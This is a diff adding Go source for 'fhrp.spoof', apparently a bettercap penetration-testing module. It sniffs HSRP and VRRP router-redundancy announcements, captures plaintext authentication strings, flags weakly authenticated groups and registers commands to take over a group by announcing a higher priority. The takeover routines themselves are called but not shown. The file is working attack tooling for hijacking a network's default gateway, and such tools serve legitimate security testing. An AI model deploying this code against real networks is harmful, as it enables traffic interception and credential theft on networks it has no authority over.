@@ -0,0 +1,334 @@
+package fhrp_spoof
+
+import (
+	"fmt"
+	"net"
+	"sort"
+	"strconv"
+	"strings"
+	"sync"
+	"time"
+
+	"github.com/bettercap/bettercap/packets"
+	"github.com/bettercap/bettercap/session"
+
+	"github.com/google/gopacket"
+	"github.com/google/gopacket/layers"
+	"github.com/google/gopacket/pcap"
+
+	"github.com/evilsocket/islazy/tui"
+)
+
+const fhrpFilter = "(udp port 1985) or (ip proto 112)"
+
+// a HSRP or VRRP group seen on the network
+type Group struct {
+	Protocol  string    `json:"protocol"`
+	Version   uint8     `json:"version"`
+	ID        uint16    `json:"id"`
+	VirtualIP net.IP    `json:"virtual_ip"`
+	Router    net.IP    `json:"router"`
+	RouterHW  string    `json:"router_mac"`
+	Priority  uint32    `json:"priority"`
+	Auth      string    `json:"auth"`
+	Weak      bool      `json:"weak"`
+	Interval  uint32    `json:"interval"`
+	LastSeen  time.Time `json:"last_seen"`
+
+	hsrp *packets.HSRP
+	vrrp *packets.VRRP
+}
+
+func (g *Group) Key() string {
+	return fmt.Sprintf("%s:%d", g.Protocol, g.ID)
+}
+
+type FHRPSpoofer struct {
+	session.SessionModule
+	sync.Mutex
+
+	handle    *pcap.Handle
+	groups    map[string]*Group
+	target    *Group
+	priority  int
+	origRoute net.IP
+	waitGroup *sync.WaitGroup
+	// forwarding was disabled before the takeover
+	restoreForwarding bool
+}
+
+func NewFHRPSpoofer(s *session.Session) *FHRPSpoofer {
+	mod := &FHRPSpoofer{
+		SessionModule: session.NewSessionModule("fhrp.spoof", s),
+		groups:        make(map[string]*Group),
+		waitGroup:     &sync.WaitGroup{},
+	}
+
+	mod.AddParam(session.NewIntParameter("fhrp.spoof.priority",
+		"255",
+		"Priority to announce while taking over a group."))
+
+	mod.AddParam(session.NewBoolParameter("fhrp.spoof.route",
+		"true",
+		"If true and the default gateway is the virtual address of the group, route our traffic through the real address of the router we replaced."))
+
+	mod.AddHandler(session.NewModuleHandler("fhrp.spoof on", "",
+		"Start listening for HSRP and VRRP announcements.",
+		func(args []string) error {
+			return mod.Start()
+		}))
+
+	mod.AddHandler(session.NewModuleHandler("fhrp.spoof off", "",
+		"Relinquish any group we took over and stop listening.",
+		func(args []string) error {
+			return mod.Stop()
+		}))
+
+	mod.AddHandler(session.NewModuleHandler("fhrp.spoof.show", "",
+		"Show the HSRP and VRRP groups seen on the network.",
+		func(args []string) error {
+			return mod.show()
+		}))
+
+	mod.AddHandler(session.NewModuleHandler("fhrp.spoof.takeover GROUP", `fhrp\.spoof\.takeover ((?:hsrp|vrrp):\d+)`,
+		"Announce a higher priority for GROUP (hsrp:ID or vrrp:ID) in order to become the active router.",
+		func(args []string) error {
+			return mod.takeover(args[0])
+		}))
+
+	mod.AddHandler(session.NewModuleHandler("fhrp.spoof.release", "",
+		"Relinquish the group we took over, letting the legit routers become active again.",
+		func(args []string) error {
+			return mod.release()
+		}))
+
+	mod.InitState("groups")
+
+	return mod
+}
+
+func (mod *FHRPSpoofer) Name() string {
+	return "fhrp.spoof"
+}
+
+func (mod *FHRPSpoofer) Description() string {
+	return "Find HSRP and VRRP groups with default or weak authentication and take them over announcing a higher priority."
+}
+
+func (mod *FHRPSpoofer) Author() string {
+	return "Simone Margaritelli <evilsocket@gmail.com>"
+}
+
+func (mod *FHRPSpoofer) show() error {
+	mod.Lock()
+	defer mod.Unlock()
+
+	if len(mod.groups) == 0 {
+		mod.Info("no groups seen yet")
+		return nil
+	}
+
+	rows := [][]string{}
+	for _, g := range mod.groups {
+		auth := tui.Green(g.Auth)
+		if g.Weak {
+			auth = tui.Red(g.Auth)
+		}
+
+		status := ""
+		if mod.target == g {
+			status = tui.Red("taken over")
+		}
+
+		rows = append(rows, []string{
+			tui.Bold(g.Key()),
+			strconv.Itoa(int(g.Version)),
+			g.VirtualIP.String(),
+			fmt.Sprintf("%s (%s)", g.Router, g.RouterHW),
+			strconv.Itoa(int(g.Priority)),
+			auth,
+			g.LastSeen.Format("15:04:05"),
+			status,
+		})
+	}
+
+	sort.Slice(rows, func(i, j int) bool {
+		return rows[i][0] < rows[j][0]
+	})
+
+	tui.Table(mod.Session.Events.Stdout, []string{"Group", "Version", "Virtual IP", "Active Router", "Priority", "Auth", "Seen", "Status"}, rows)
+	mod.Session.Refresh()
+
+	return nil
+}
+
+// update the group list, only the active (or master) router announcements are tracked
+func (mod *FHRPSpoofer) onGroup(g *Group) {
+	mod.Lock()
+	defer mod.Unlock()
+
+	key := g.Key()
+	if existing, found := mod.groups[key]; found {
+		// keep reporting the router we replaced while we're active
+		if mod.target != existing {
+			existing.Router, existing.RouterHW, existing.Priority = g.Router, g.RouterHW, g.Priority
+			existing.hsrp, existing.vrrp = g.hsrp, g.vrrp
+		}
+		existing.LastSeen = g.LastSeen
+		return
+	}
+
+	mod.groups[key] = g
+	mod.State.Store("groups", mod.groups)
+
+	weakness := tui.Green("strong authentication")
+	if g.Weak {
+		weakness = tui.Red(g.Auth + " authentication")
+	}
+
+	mod.Info("new %s group %s: virtual ip %s, active router %s priority %d, %s",
+		strings.ToUpper(g.Protocol),
+		tui.Bold(strconv.Itoa(int(g.ID))),
+		tui.Yellow(g.VirtualIP.String()),
+		g.Router,
+		g.Priority,
+		weakness)
+
+	mod.Session.Events.Add("fhrp.spoof.group.new", *g)
+}
+
+func (mod *FHRPSpoofer) onHSRP(ip *layers.IPv4, eth *layers.Ethernet, payload []byte) {
+	h, err := packets.ParseHSRP(payload)
+	if err != nil {
+		mod.Debug("error parsing hsrp packet from %s: %v", ip.SrcIP, err)
+		return
+	} else if h.OpCode != packets.HSRPOpHello || h.State != packets.HSRPStateActive {
+		return
+	}
+
+	auth := "default"
+	if h.MD5 {
+		auth = "md5"
+	} else if !h.DefaultAuth() {
+		auth = fmt.Sprintf("plaintext '%s'", strings.TrimRight(string(h.Auth), "\x00"))
+	}
+
+	mod.onGroup(&Group{
+		Protocol:  "hsrp",
+		Version:   h.Version,
+		ID:        h.Group,
+		VirtualIP: h.VirtualIP,
+		Router:    ip.SrcIP,
+		RouterHW:  eth.SrcMAC.String(),
+		Priority:  h.Priority,
+		Auth:      auth,
+		Weak:      !h.MD5,
+		Interval:  h.HelloTime,
+		LastSeen:  time.Now(),
+		hsrp:      h,
+	})
+}
+
+func (mod *FHRPSpoofer) onVRRP(ip *layers.IPv4, eth *layers.Ethernet, payload []byte) {
+	v, err := packets.ParseVRRP(payload)
+	if err != nil {
+		mod.Debug("error parsing vrrp packet from %s: %v", ip.SrcIP, err)
+		return
+	} else if len(v.Addresses) == 0 {
+		return
+	}
+
+	auth := "none"
+	switch v.AuthType {
+	case packets.VRRPAuthSimple:
+		auth = fmt.Sprintf("plaintext '%s'", strings.TrimRight(string(v.Auth), "\x00"))
+	case packets.VRRPAuthAH:
+		auth = "ah"
+	}
+
+	// intervals are in seconds for v2 and centiseconds for v3
+	interval := uint32(v.Interval) * 1000
+	if v.Version == 3 {
+		interval = uint32(v.Interval) * 10
+	}
+
+	mod.onGroup(&Group{
+		Protocol:  "vrrp",
+		Version:   v.Version,
+		ID:        uint16(v.RouterID),
+		VirtualIP: v.Addresses[0],
+		Router:    ip.SrcIP,
+		RouterHW:  eth.SrcMAC.String(),
+		Priority:  uint32(v.Priority),
+		Auth:      auth,
+		Weak:      v.WeakAuth(),
+		Interval:  interval,
+		LastSeen:  time.Now(),
+		vrrp:      v,
+	})
+}
+
+func (mod *FHRPSpoofer) onPacket(pkt gopacket.Packet) {
+	eth, okEth := pkt.Layer(layers.LayerTypeEthernet).(*layers.Ethernet)
+	ip, okIP := pkt.Layer(layers.LayerTypeIPv4).(*layers.IPv4)
+	if !okEth || !okIP || ip.SrcIP.Equal(mod.Session.Interface.IP) {
+		return
+	}
+
+	if ip.Protocol == layers.IPProtocolVRRP {
+		mod.onVRRP(ip, eth, ip.Payload)
+	} else if udp, ok := pkt.Layer(layers.LayerTypeUDP).(*layers.UDP); ok && udp.DstPort == packets.HSRPPort {
+		mod.onHSRP(ip, eth, udp.Payload)
+	}
+}
+
+func (mod *FHRPSpoofer) Configure() (err error) {
+	if mod.Running() {
+		return session.ErrAlreadyStarted(mod.Name())
+	} else if mod.handle, err = pcap.OpenLive(mod.Session.Interface.Name(), 65536, true, pcap.BlockForever); err != nil {
+		return err
+	} else if err = mod.handle.SetBPFFilter(fhrpFilter); err != nil {
+		mod.handle.Close()
+		return err
+	}
+
+	mod.Lock()
+	mod.groups = make(map[string]*Group)
+	mod.target = nil
+	mod.Unlock()
+
+	return nil
+}
+
+func (mod *FHRPSpoofer) Start() error {
+	if err := mod.Configure(); err != nil {
+		return err
+	}
+
+	return mod.SetRunning(true, func() {
+		mod.Info("listening for HSRP and VRRP announcements ...")
+
+		mod.waitGroup.Add(1)
+		defer mod.waitGroup.Done()
+
+		src := gopacket.NewPacketSource(mod.handle, mod.handle.LinkType())
+		for pkt := range src.Packets() {
+			if !mod.Running() {
+				break
+			}
+			mod.onPacket(pkt)
+		}
+	})
+}
+
+func (mod *FHRPSpoofer) Stop() error {
+	return mod.SetRunning(false, func() {
+		if mod.takenOver() {
+			if err := mod.release(); err != nil {
+				mod.Error("%v", err)
+			}
+		}
+		mod.handle.Close()
+		mod.waitGroup.Wait()
+	})
+}